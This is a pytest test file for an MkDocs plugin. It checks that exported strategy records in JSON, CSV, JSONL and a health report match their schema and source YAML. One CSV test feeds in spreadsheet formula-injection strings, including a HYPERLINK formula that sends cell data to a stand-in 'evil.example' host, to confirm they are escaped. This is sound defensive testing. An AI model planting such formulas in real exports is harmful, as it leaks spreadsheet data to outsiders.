"""The portfolio as data: against its schema, against the YAML, through CSV and DuckDB, and in ArcKit's shape."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import duckdb
import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator, FormatChecker

from mkdocs_arckit.exports.catalogue import StrategyRecord
from mkdocs_arckit.exports.data import data, safe
from mkdocs_arckit.model.strategy import SECTION_TYPES, DocumentControl
from tests.helpers.command import call
from tests.helpers.findings import names
from tests.helpers.portfolios import portfolio_of
from tests.helpers.samples import Html, config, strategy
from tests.helpers.sites import ROOT, Built

TODAY = "2026-11-23"
EXAMPLE = ROOT / "example-site"
ABOVE = EXAMPLE / "services" / "enforcement-cases" / "devops.yaml"


@pytest.fixture
def example_data(example_site: Callable[..., Built]) -> Path:
    """The folder of the example site that holds its data."""
    built = example_site()
    assert built.exit_code == 0, built.log
    return built.site_dir / "strategies"


def files(folder: Path) -> dict[str, bytes]:
    names = [*folder.glob("strategies.*"), folder / "health.json", folder / "feed.xml", *folder.glob("badges/*")]
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in names}


def load(built: Built, name: str = "strategies.json") -> Any:
    assert built.exit_code == 0, built.log
    return json.loads(built.html(f"strategies/{name}"))


# -- against its schema --------------------------------------------------------------------------------------------


def complaints(document: Any, schema: Any) -> list[str]:
    checker = Draft202012Validator(schema, format_checker=FormatChecker())
    return [f"{error.json_path}: {error.message}" for error in checker.iter_errors(document)]


def test_the_data_fits_the_schema_beside_it(example_data: Path) -> None:
    found = json.loads((example_data / "strategies.json").read_bytes())
    schema = json.loads((example_data / found["$schema"]).read_bytes())
    Draft202012Validator.check_schema(schema)
    assert found["version"] == "1.0"
    assert not complaints(found, schema)
    for break_it in (
        lambda record: record.pop("owner"),
        lambda record: record.update(next_review="soon"),
        lambda record: record["sections"][0].update(present="all"),
    ):
        broken = json.loads((example_data / "strategies.json").read_bytes())
        break_it(broken["strategies"][0])
        assert complaints(broken, schema)


def test_the_command_prints_the_schema(example_data: Path) -> None:
    printed = call("schema", "--catalogue")
    assert printed.exit_code == 0
    assert printed.stdout == (example_data / "strategies.schema.json").read_text(encoding="utf-8")
    assert "strategies" not in json.loads(call("schema").stdout)["properties"]


def test_all_of_document_control_is_there() -> None:
    other_names = {"id": ["document_id"], "reviewed_by": ["reviewed_by", "reviewed_on"]}
    other_names["approved_by"] = ["approved_by", "approved_on"]
    wanted = [name for key in set(DocumentControl.model_fields) - {"x"} for name in other_names.get(key, [key])]
    assert set(wanted) <= set(StrategyRecord.model_fields)


# -- against the YAML ----------------------------------------------------------------------------------------------


class Text(yaml.BaseLoader):
    """YAML in which every value is text."""


def read(path: Path) -> Any:
    return yaml.load(path.read_text(encoding="utf-8"), Text)


PUBLISHED = sorted(path for path in EXAMPLE.rglob("devops.yaml") if path != ABOVE)
COMMON = {"heading", "headings", "columns", "summary", "notes", "extra", "not_applicable"}


def day(text: Any) -> str | None:
    return text if isinstance(text, str) and re.fullmatch(r"\d{4}-\d\d-\d\d", text) else None


def texts(value: Any) -> list[str]:
    return [value] if isinstance(value, str) else list(value or [])


@pytest.mark.parametrize("path", PUBLISHED, ids=lambda path: path.parent.name)
def test_the_example_s_records_say_what_its_files_say(example_data: Path, path: Path) -> None:
    found = json.loads((example_data / "strategies.json").read_bytes())
    source = path.relative_to(EXAMPLE).as_posix()
    (record,) = [r for r in found["strategies"] if r["source"] == source]
    said = read(path)
    document = said["document"]
    assert (record["project_id"], record["project_name"]) == (said["project"]["id"], said["project"]["name"])
    for key in ("version", "status", "classification"):
        assert record[key] == document[key]
    for key in ("created", "last_modified", "next_review"):
        assert record[key] == day(document.get(key))
    assert record["review_cycle"] == document.get("review_cycle")
    in_use = document["status"] not in {"SUPERSEDED", "ARCHIVED"}
    due = day(document.get("next_review"))
    assert record["overdue"] == bool(in_use and due and due < TODAY)
    for key, when in (("reviewed_by", "reviewed_on"), ("approved_by", "approved_on")):
        person = document.get(key)
        if isinstance(person, str) and (both := re.fullmatch(r"(.*) \((\d{4}-\d\d-\d\d)\)", person)):
            person = {"name": both[1], "date": both[2]}
        person = person if isinstance(person, dict) else {"name": person}
        waits = (person["name"] or "PENDING").startswith(("PENDING", "["))
        assert (record[key], record[when]) == (None if waits else person["name"], day(person.get("date")))
    assert record["tags"] == said.get("tags", [])
    assert record["in_force"] == (document["status"] in {"APPROVED", "PUBLISHED"})
    assert record["replaced"] == (document["status"] == "SUPERSEDED")
    assert set(texts(document.get("supersedes"))) == set(record["supersedes"])
    assert record["page"].startswith("https://engineering.wla.example.gov.uk/")
    assert (example_data.parent / record["page"].split("/", 3)[3] / "index.html").is_file()


@pytest.mark.parametrize("path", PUBLISHED, ids=lambda path: path.parent.name)
def test_the_example_s_completeness_is_what_its_files_have(example_data: Path, path: Path) -> None:
    found = json.loads((example_data / "strategies.json").read_bytes())
    (record,) = [r for r in found["strategies"] if r["source"] == path.relative_to(EXAMPLE).as_posix()]
    said, shares = read(path), []
    assert [section["number"] for section in record["sections"]] == list(range(1, 18))
    for section in record["sections"]:
        here = said.get(section["key"]) or {}
        here = {"rows": here} if isinstance(here, list) else here
        can = {key for key, part in SECTION_TYPES[section["key"]].elements.items() if part.kind != "diagram"}
        has = {key for key, value in (here | (here.get("notes") or {})).items() if value not in ("", {}, [])} & can
        reason = here.get("not_applicable")
        assert section["total"] == len(can)
        assert section["not_applicable"] == (reason and re.sub(r"\[(.*?)\]\(.*?\)", r"\1", reason))
        assert section["present"] == (0 if reason else len(has))
        assert set(section["missing"]) == (set() if reason else can - has)
        shares.append(1.0 if reason else len(has) / len(can))
    assert record["complete"] == int(sum(shares) / 17 * 100 + 1e-9)


def test_the_example_s_choices_are_what_its_files_select(example_data: Path) -> None:
    found = json.loads((example_data / "strategies.json").read_bytes())
    for record in found["strategies"]:
        said = read(EXAMPLE / record["source"])
        for choice in record["choices"]:
            chosen = said[choice["section"]][choice["key"]]
            chosen = chosen if isinstance(chosen, (str, list)) else chosen["selected"]
            assert choice["selected"] == texts(chosen)
    assert any(len(record["choices"]) > 3 for record in found["strategies"])


def test_nothing_above_the_ceiling_is_in_any_file(example_data: Path) -> None:
    secret = read(ABOVE)
    words = [secret["project"]["name"], "enforcement", f'"{secret["project"]["id"]}"']
    for name, content in files(example_data).items():
        for word in words:
            assert word.encode().lower() not in content.lower(), name
    assert f"badges/{secret['project']['id']}.svg" not in files(example_data)
    assert len(json.loads((example_data / "strategies.json").read_bytes())["strategies"]) == len(PUBLISHED)


def test_the_same_day_gives_the_same_bytes(site: Callable[..., Built]) -> None:
    text = {"docs/a/devops.yaml": (PUBLISHED[0]).read_text(encoding="utf-8")}
    first = files(site(text).site_dir / "strategies")
    assert len(first) == 8
    assert files(site(text).site_dir / "strategies") == first


# -- CSV -----------------------------------------------------------------------------------------------------------


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_csv_says_what_json_says(example_data: Path) -> None:
    text = (example_data / "strategies.csv").read_bytes().decode()
    found = json.loads((example_data / "strategies.json").read_bytes())["strategies"]
    assert len(rows(text)) == len(found)
    for row, record in zip(rows(text), found, strict=True):
        for name, value in row.items():
            wanted = record[name]
            if name == "findings":
                assert value == str(len(wanted))
            elif isinstance(wanted, list):
                assert value == "; ".join(wanted)
            else:
                assert value == {None: "", True: "true", False: "false"}.get(wanted, str(wanted))


def made(name: str, **document: Any) -> dict[str, str]:
    fields = {"version": "1.0", "status": "DRAFT", "classification": "OFFICIAL", **document}
    said = {"project": {"id": "001", "name": name}, "document": fields}
    return data(portfolio_of(said, site="https://example.org/", today=TODAY))


_texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40).filter(str.strip)


@given(_texts, _texts)
@example('=HYPERLINK("https://evil.example/?"&A1)', "@SUM(1,2)")
@example("+44 20 7946 0000", "-2+3")
@example("'=1", "''")
@example('a "quoted", name\r\n', "＝1")
def test_any_text_comes_back_from_csv_and_is_no_formula(name: str, tag: str) -> None:
    files_made = made(name, title=tag)
    text = files_made["strategies.csv"]
    assert "\r\n" in text
    assert not re.search(r"\r(?!\n)|(?<!\r)\n", text)
    (row,) = rows(text)
    (record,) = json.loads(files_made["strategies.json"])["strategies"]
    for key in ("project_name", "title"):
        assert row[key][:1] not in tuple("=+-@\t\r\n＝＋－＠")
        # As documented: an apostrophe before apostrophes and such a sign is one too many.
        assert re.sub("^'(?='*[=+\\-@＝＋－＠])", "", row[key]) == record[key]
    assert not complaints(json.loads(files_made["strategies.json"]), json.loads(files_made["strategies.schema.json"]))


@given(st.text(), st.text())
def test_safe_cells_stay_apart(one: str, other: str) -> None:
    assert (safe(one) == safe(other)) == (one == other)


# -- JSON lines ----------------------------------------------------------------------------------------------------


def sql(folder: Path) -> Iterator[str]:
    for query in re.findall(
        r"^```sql\n(.*?)^```", (ROOT / "docs" / "data.md").read_text(encoding="utf-8"), re.M | re.S
    ):
        yield query.replace("https://handbook.example.org/strategies", folder.as_posix())


def test_duckdb_answers_the_questions_of_the_documentation(example_data: Path) -> None:
    late, gaps = (duckdb.sql(query).fetchall() for query in sql(example_data))
    found = json.loads((example_data / "strategies.json").read_bytes())["strategies"]
    assert late == [
        (r["project_name"], r["owner"], date.fromisoformat(r["next_review"]))
        for r in sorted(found, key=lambda r: r["next_review"] or "")
        if r["overdue"]
    ]
    assert late
    counts: dict[str, int] = {}
    for record in found:
        for section in record["sections"]:
            if record["in_force"] and section["missing"]:
                counts[section["title"]] = counts.get(section["title"], 0) + len(section["missing"])
    assert dict(gaps) == counts
    assert [n for _, n in gaps] == sorted(counts.values(), reverse=True)


def test_a_line_a_strategy_and_the_same_as_json(example_data: Path) -> None:
    lines = (example_data / "strategies.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == json.loads((example_data / "strategies.json").read_bytes())[
        "strategies"
    ]


# -- files with errors, addresses, the switch ------------------------------------------------------------------------

BROKEN = {
    "mkdocs.yml": config({"on_error": "warn"}),
    "docs/a/devops.yaml": strategy("001", "Payments"),
    "docs/b/devops.yaml": strategy("002", "Permits", next_review="soon") + "ci: {stagse: [x]}\n",
}


def test_a_file_with_errors_is_listed_with_its_findings(site: Callable[..., Built]) -> None:
    built = site(BROKEN)
    found = load(built)
    assert [record["project_id"] for record in found["strategies"]] == ["001"]
    (invalid,) = found["invalid"]
    assert (invalid["status"], invalid["source"], invalid["page"]) == ("INVALID", "docs/b/devops.yaml", "../b/devops/")
    first, second = invalid["findings"]
    assert (first["rule"], first["severity"], first["key"]) == ("date", "error", "document.next_review")
    assert (second["rule"], names(second["hint"])) == ("unknown-key", ["stages"])
    line = (built.site_dir.parent / "docs/b/devops.yaml").read_text(encoding="utf-8").splitlines()[first["line"] - 1]
    assert line[first["column"] - 1 :] == "soon"
    assert not complaints(found, load(built, "strategies.schema.json"))
    folder = built.site_dir / "strategies"
    statuses = duckdb.sql(f"select status from '{folder}/strategies.jsonl' order by status").fetchall()
    assert statuses == [("DRAFT",), ("INVALID",)]
    good, bad = rows((folder / "strategies.csv").read_bytes().decode())
    assert (good["findings"], bad["status"], bad["findings"], bad["project_id"]) == ("0", "INVALID", "2", "")


@pytest.mark.parametrize(
    ("settings", "page"),
    [
        ({}, "../a%20b/devops/"),
        ({"use_directory_urls": False}, "../a%20b/devops.html"),
        ({"site_url": "https://example.org/sub/"}, "https://example.org/sub/a%20b/devops/"),
    ],
)
def test_pages_have_addresses_that_lead_there(site: Callable[..., Built], settings: Any, page: str) -> None:
    built = site({"mkdocs.yml": config(**settings), "docs/a b/devops.yaml": strategy()}, strict=True)
    assert [record["page"] for record in load(built)["strategies"]] == [page]


def test_what_waits_is_null(site: Callable[..., Built]) -> None:
    waiting = {"owner": "'[OWNER_NAME]'", "approved_by": "PENDING", "created": "'[YYYY-MM-DD]'", "status": "'[STATUS]'"}
    (record,) = load(site({"docs/a/devops.yaml": strategy(**waiting)}))["strategies"]
    assert [record[key] for key in ("owner", "approved_by", "created", "status")] == [None] * 4


def test_a_project_s_name_is_plain_wherever_it_stands(site: Callable[..., Built]) -> None:
    more = """
overview: {maturity: {current: 2, timeline: {3: 2027}}, technology_stack: {languages: Go}}
uk_government: {technology_code_of_practice: [{point: 1. Define user needs, requirement: x}]}
metrics: {dora: {lead_time: {current: 1 day}}}
traceability: [{id: FR-001, requirement: x, status: met}]
revisions: [{version: "1.0", date: 2026-03-02}]
"""
    control = {"supersedes": "ARC-001-DEVOPS-v0.9", "next_review": "2026-12-01", "status": "IN_REVIEW"}
    built = site({"docs/a/devops.yaml": strategy("001", "**Pay** `in` [x](y)", more=more, **control)}, strict=True)
    assert load(built)["strategies"][0]["project_name"] == "Pay in [x](y)"
    shown = {
        path.relative_to(built.site_dir / "strategies"): path for path in built.site_dir.rglob("strategies/**/*.*")
    }
    texts = {str(name): path.read_text(encoding="utf-8") for name, path in shown.items()}
    assert sum("Pay in [x](y)" in text for text in texts.values()) == 25
    assert not [name for name, text in texts.items() if "**Pay" in text]


def test_the_index_leads_to_the_data_and_the_feed(site: Callable[..., Built]) -> None:
    revised = strategy(more='revisions: [{version: "1.0", date: 2026-03-02}]')
    built = site({"docs/a/devops.yaml": revised, "docs/index.md": "# Home\n"}, strict=True)
    html = built.html("strategies/index.html")
    links = Html(html).links
    for text, name in {"JSON": "strategies.json", "CSV": "strategies.csv", "feed": "feed.xml"}.items():
        assert links[text] == name
        assert (built.site_dir / "strategies" / name).is_file()
    (link,) = re.findall(r"<link rel=\"alternate feed\"[^>]*>", html)
    assert 'type="application/atom+xml"' in link
    assert 'href="feed.xml"' in link
    assert 'rel="alternate feed"' not in built.html("index.html")


def test_the_data_can_be_left_out(site: Callable[..., Built]) -> None:
    built = site({"mkdocs.yml": config({"exports": False}), "docs/a/devops.yaml": strategy()}, strict=True)
    assert {path.name for path in (built.site_dir / "strategies").rglob("*") if path.is_file()} == {"index.html"}
    assert "As data" not in built.html("strategies/index.html")


# -- ArcKit's shape ------------------------------------------------------------------------------------------------

COUNT = {"type": "integer", "minimum": 0}
SEVERITY = ["HIGH", "MEDIUM", "LOW"]
ALWAYS = "STALE-RSCH FORGOTTEN-ADR UNRESOLVED-COND STALE-EXT ORPHAN-REQ MISSING-TRACE VERSION-DRIFT REVIEW-OVERDUE STALE-DRAFT"
FINDING_KEYS = ["severity", "rule", "file", "message", "action"]
HEALTH: dict[str, Any] = {  # what ArcKit's command says of its file, in the words of JSON Schema
    "type": "object",
    "additionalProperties": False,
    "required": ["generated", "scanned", "summary", "byType", "projects"],
    "properties": {
        "generated": {"type": "string", "pattern": r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$"},
        "scanned": {
            "required": ["projects", "artifacts"],
            "additionalProperties": False,
            "properties": {"projects": COUNT, "artifacts": COUNT},
        },
        "summary": {
            "required": [*SEVERITY, "total"],
            "additionalProperties": False,
            "properties": dict.fromkeys([*SEVERITY, "total"], COUNT),
        },
        "byType": {"required": ALWAYS.split(), "additionalProperties": COUNT},
        "projects": {
            "type": "array",
            "items": {
                "required": ["id", "artifacts", "findings"],
                "additionalProperties": False,
                "properties": {
                    "id": {"type": "string"},
                    "artifacts": COUNT,
                    "findings": {
                        "type": "array",
                        "items": {
                            "required": FINDING_KEYS,
                            "additionalProperties": False,
                            "properties": {name: {"type": "string"} for name in FINDING_KEYS}
                            | {"severity": {"enum": SEVERITY}},
                        },
                    },
                },
            },
        },
    },
}


def check_health(report: Any) -> None:
    assert not complaints(report, HEALTH)
    found = [finding for project in report["projects"] for finding in project["findings"]]
    assert report["scanned"]["projects"] == len(report["projects"])
    assert report["scanned"]["artifacts"] == sum(project["artifacts"] for project in report["projects"])
    assert report["summary"]["total"] == len(found)
    for severity in SEVERITY:
        assert report["summary"][severity] == sum(f["severity"] == severity for f in found)
    for rule, count in report["byType"].items():
        assert count == sum(f["rule"] == rule for f in found)


def test_the_example_s_health_has_the_shape_of_arckit(example_data: Path) -> None:
    report = json.loads((example_data / "health.json").read_bytes())
    check_health(report)
    overdue = [
        path.relative_to(EXAMPLE).as_posix()
        for path in PUBLISHED
        if (document := read(path)["document"])["status"] not in {"DRAFT", "SUPERSEDED", "ARCHIVED"}
        and (day(document.get("next_review")) or TODAY) < TODAY
    ]
    assert overdue == [f["file"] for p in report["projects"] for f in p["findings"] if f["rule"] == "REVIEW-OVERDUE"]
    stale = (date.fromisoformat(TODAY) - timedelta(days=30)).isoformat()
    drafts = [read(path)["document"] for path in PUBLISHED]
    assert report["byType"]["STALE-DRAFT"] == sum(d["status"] == "DRAFT" and d["last_modified"] < stale for d in drafts)


def test_health_weighs_findings_as_arckit_does(site: Callable[..., Built]) -> None:
    old = {"last_modified": "2026-10-23"}
    built = site(
        {
            **BROKEN,
            "docs/c/devops.yaml": strategy(
                "003", "Tolls & Dues", owner="'[OWNER_NAME]'", next_review="2026-11-22", **old
            ),
            "docs/d/devops.yaml": strategy("003", "Tolls", version='"2"', status="APPROVED", next_review="2026-11-22"),
        }
    )
    report = load(built, "health.json")
    check_health(report)
    assert report["generated"] == f"{TODAY}T00:00:00Z"
    projects = {project["id"]: project for project in report["projects"]}
    assert list(projects) == ["b", "001-payments", "003-tolls-dues"]
    assert projects["003-tolls-dues"]["artifacts"] == 2
    assert [(f["severity"], f["rule"]) for f in projects["003-tolls-dues"]["findings"]] == [
        ("LOW", "placeholder"),
        ("MEDIUM", "STALE-DRAFT"),
        ("HIGH", "REVIEW-OVERDUE"),
    ]
    assert [(f["severity"], f["rule"]) for f in projects["b"]["findings"]] == [
        ("HIGH", "date"),
        ("HIGH", "unknown-key"),
    ]


def test_people_have_roles_and_dates_of_their_own() -> None:
    document = {
        "version": "1.0", "status": "IN_REVIEW", "classification": "OFFICIAL", "owner": "Jane Doe, Platform Lead",
        "reviewed_by": "Sam Hill (agency) (2026-03-01)", "approved_by": ["A (2026-10-12)", "B, CTO (2026-10-13)", "PENDING"],
    }  # fmt: skip
    one = {"project": {"id": "001", "name": "Pay"}, "document": document}
    all_signed = {**one, "document": document | {"approved_by": ["A (2026-10-14)", "B (2026-10-13)"]}}
    found = [json.loads(line) for line in data(portfolio_of(one, all_signed))["strategies.jsonl"].splitlines()]
    assert found[0]["owners"] == [{"name": "Jane Doe", "role": "Platform Lead", "date": None}]
    assert found[0]["owner"] == "Jane Doe, Platform Lead"
    assert found[0]["reviewers"] == [{"name": "Sam Hill", "role": "agency", "date": "2026-03-01"}]
    assert found[0]["approvers"] == [
        {"name": "A", "role": None, "date": "2026-10-12"},
        {"name": "B", "role": "CTO", "date": "2026-10-13"},
    ]
    assert [(record["approved_by"], record["approved_on"]) for record in found] == [
        ("A, B", None),
        ("A, B", "2026-10-14"),
    ]
